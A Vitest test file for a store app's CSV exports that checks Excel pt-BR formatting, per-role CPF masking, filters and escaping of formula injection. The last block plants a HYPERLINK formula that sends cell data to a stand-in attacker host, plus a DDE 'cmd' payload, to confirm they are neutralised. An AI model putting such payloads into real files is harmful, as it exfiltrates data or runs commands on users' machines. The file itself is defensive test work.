import { todayIn } from "@passo/domain";
import { beforeAll, describe, expect, it } from "vitest";
import { picklists, pickups, returns } from "../../db/schema/index.js";
import { bearer, useTestApp } from "../../testing/test-app.js";

const t = useTestApp();
let storeA: { username: string; token: string };
let storeB: { username: string; token: string };

const get = (url: string, token = t.adminToken) => t.app.inject({ method: "GET", url, headers: bearer(token) });
const lines = (body: string) => body.replace(/^\uFEFF/, "").split("\r\n").slice(0, -1);

const pickupRow = (store: string, orderNumber: string) => ({
  pickupStoreName: store,
  orderDispatchDate: new Date("2026-03-10T15:04:05Z"),
  scheduledPickupDate: new Date("2026-03-12T15:00:00Z"),
  pickupType: "Envio realizado via Correios" as const,
  orderNumber,
  trackingCode: "AA123456789BR",
  invoiceFileName: "nota.pdf",
  customerFullName: "Maria da Silva",
  customerCPF: "52998224725",
  customerPhone: "41987654321",
  customerEmail: "maria@example.com",
  orderItems: ["TENIS 42", "MEIA 38"],
  pickupStatus: "Aguardando retirada" as const,
  waitingSince: new Date("2026-03-11T12:00:00Z"),
});

beforeAll(async () => {
  storeA = await t.createStore("Loja Exportação A");
  storeB = await t.createStore("Loja Exportação B");
  await t.database.db.insert(picklists).values([
    {
      destination: storeA.username,
      sendDate: new Date("2026-03-10T15:04:05Z"),
      timeStarted: new Date("2026-03-10T15:05:05Z"),
      timeCompleted: new Date("2026-03-10T16:05:05Z"),
      listItems: ['BOTA "COURO"; 40', "TENIS\n41"],
      completedItems: ['BOTA "COURO"; 40'],
      uncompletedItems: ["TENIS\n41"],
      currentStatus: "Não concluído",
    },
    // 1,000 more lists of B: the export reads more than one batch.
    ...Array.from({ length: 1000 }, (_, i) => ({ destination: storeB.username, sendDate: new Date(Date.UTC(2026, 2, 1, 0, 0, i)), listItems: [`ITEM ${i}`] })),
  ]);
  await t.database.db.insert(pickups).values([pickupRow(storeA.username, "PED0000000000001"), pickupRow(storeB.username, "PED0000000000002")]);
  await t.database.db.insert(returns).values({
    orderNumber: "PED0000000000003",
    customerCPF: "52998224725",
    customerFullName: "Maria da Silva",
    customerPhone: "41987654321",
    customerEmail: "maria@example.com",
    returnItems: ["TENIS 42"],
    returnStatus: "Devolução recusada",
    reasonForRefusal: "Produto com defeito",
    returnStore: storeA.username,
    dateOfCreation: new Date("2026-03-10T15:04:05Z"),
  });
});

describe("CSV exports", () => {
  it("answers every list of the filter as Excel pt-BR reads it: BOM, ';', CRLF, quoting, dates in the time zone", async () => {
    const res = await get("/api/picklist/export");
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe(`attachment; filename="listas-de-separacao_ate_${todayIn(t.config.timezone)}.csv"`);
    expect(res.body.startsWith("\uFEFFLoja;Enviado;Iniciado;Finalizado;Duração (min);Itens;")).toBe(true);
    expect(res.body).toContain(
      `Loja Exportação A;10/03/2026 12:04:05;10/03/2026 12:05:05;10/03/2026 13:05:05;60;"BOTA ""COURO""; 40 | TENIS\n41";"BOTA ""COURO""; 40";"TENIS\n41";;Não concluído;\r\n`,
    );
    expect(res.body.split("\r\n").length).toBe(1003); // the header, 1,001 lists, then nothing after the last line break
  });

  it("keeps the history's filters, and names the file with their period", async () => {
    const res = await get(`/api/picklist/export?store=${encodeURIComponent(storeA.username)}&status=Não concluído`);
    expect(lines(res.body)).toHaveLength(2);
    const period = await get(`/api/picklist/export?store=${encodeURIComponent(storeA.username)}&from=2026-03-01&to=2026-03-27`);
    expect(period.headers["content-disposition"]).toBe('attachment; filename="listas-de-separacao_2026-03-01_a_2026-03-27.csv"');
    expect(lines(period.body)).toHaveLength(2);
    const since = await get("/api/pickup/export?from=2026-03-01");
    expect(since.headers["content-disposition"]).toBe('attachment; filename="retiradas_desde_2026-03-01.csv"');
  });

  it("writes a duration as a number of minutes, with a decimal comma, and the pickup day without a time", async () => {
    await t.database.db.insert(picklists).values({
      destination: storeA.username,
      sendDate: new Date("2026-02-10T15:00:00Z"),
      timeStarted: new Date("2026-02-10T15:00:00Z"),
      timeCompleted: new Date("2026-02-10T15:12:30Z"),
      listItems: ["MINUTOS 1"],
      completedItems: ["MINUTOS 1"],
      currentStatus: "Concluído",
    });
    const list = lines((await get("/api/picklist/export?from=2026-02-10&to=2026-02-10")).body);
    expect(list[1]).toBe(`${storeA.username};10/02/2026 12:00:00;10/02/2026 12:00:00;10/02/2026 12:12:30;12,5;MINUTOS 1;MINUTOS 1;;;Concluído;`);
    const pickup = lines((await get("/api/pickup/export")).body);
    expect(pickup[0]).toContain(";Data de retirada;");
    // The scheduled day is a day: '12/03/2026', never '12/03/2026 12:00:00'.
    expect(pickup[1]).toContain(";AA123456789BR;12/03/2026;");
    expect(pickup[1]).not.toContain("12/03/2026 ");
  });

  it("gives a store only its own pickups, CPF masked, no phone or e-mail", async () => {
    const res = await get("/api/pickup/export?store=all", storeA.token);
    expect(res.statusCode).toBe(200);
    const rows = lines(res.body);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain("PED0000000000001;Loja Exportação A;Maria da Silva;***.***.247-25;");
    expect(rows[1]).toContain("TENIS 42 | MEIA 38");
    expect(res.body).not.toContain("PED0000000000002");
    expect(res.body).not.toContain("52998224725");
    expect(res.body).not.toContain("529.982.247-25");
    expect(res.body).not.toMatch(/41987654321|maria@example\.com/);
  });

  it("gives the administrator the CPF in full, still without phone or e-mail", async () => {
    const res = await get("/api/pickup/export");
    expect(lines(res.body)).toHaveLength(3);
    expect(res.body).toContain("529.982.247-25");
    expect(res.body).not.toMatch(/41987654321|maria@example\.com/);
  });

  it("exports the returns a store received, with the refusal reason", async () => {
    const res = await get("/api/return/export", storeA.token);
    expect(res.headers["content-disposition"]).toBe(`attachment; filename="devolucoes_ate_${todayIn(t.config.timezone)}.csv"`);
    expect(lines(res.body)[1]).toBe("PED0000000000003;Maria da Silva;***.***.247-25;TENIS 42;10/03/2026 12:04:05;;Loja Exportação A;;Devolução recusada;Produto com defeito;");
    expect(lines((await get("/api/return/export", storeB.token)).body)).toHaveLength(1);
  });

  it("refuses a bad date with a Portuguese 400", async () => {
    const res = await get("/api/return/export?from=2026-13-01");
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toBe("Data inválida. Use AAAA-MM-DD.");
  });
});

describe("CSV exports never carry a live formula", () => {
  const FORMULA = '=HYPERLINK("http://atacante.example/?"&A1;"Clique")';
  const SAFE = `"'=HYPERLINK(""http://atacante.example/?""&A1;""Clique"")"`;

  it("writes a name, an item or a reason that would start a formula with a leading ' in the pickups', returns' and lists' exports", async () => {
    const store = await t.createStore("Loja Fórmula");
    await t.database.db.insert(pickups).values({ ...pickupRow(store.username, "PED0000000000009"), customerFullName: FORMULA, orderItems: ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"] });
    await t.database.db.insert(returns).values({
      orderNumber: "PED0000000000010",
      customerCPF: "52998224725",
      customerFullName: "\tMaria",
      customerPhone: "41987654321",
      customerEmail: "maria@example.com",
      returnItems: ["=1+1"],
      returnStatus: "Devolução recusada",
      reasonForRefusal: "-Produto usado",
      returnStore: store.username,
      dateOfCreation: new Date("2026-03-10T15:04:05Z"),
    });
    await t.database.db.insert(picklists).values({ destination: store.username, sendDate: new Date("2026-03-10T15:04:05Z"), listItems: ["=2*3", "+TENIS"], currentStatus: "Não iniciado" });

    const pickup = lines((await get(`/api/pickup/export?store=${encodeURIComponent(store.username)}`)).body);
    expect(pickup).toHaveLength(2);
    expect(pickup[1]).toContain(`PED0000000000009;Loja Fórmula;${SAFE};529.982.247-25;`);
    expect(pickup[1]).toContain(";'@SUM(1+1)*cmd|' /C calc'!A0 | -2+3;");

    const ret = lines((await get(`/api/return/export?store=${encodeURIComponent(store.username)}`)).body);
    expect(ret[1]).toBe(`PED0000000000010;'\tMaria;529.982.247-25;'=1+1;10/03/2026 12:04:05;;Loja Fórmula;;Devolução recusada;'-Produto usado;`);

    const list = lines((await get(`/api/picklist/export?store=${encodeURIComponent(store.username)}`)).body);
    expect(list[1]).toBe(`Loja Fórmula;10/03/2026 12:04:05;;;;'=2*3 | +TENIS;;;;Não iniciado;`);
    // Figures stay figures: a duration is written as the number it is.
    expect(lines((await get("/api/picklist/export?from=2026-02-10&to=2026-02-10")).body)[1]).toContain(";12,5;");
  });
});
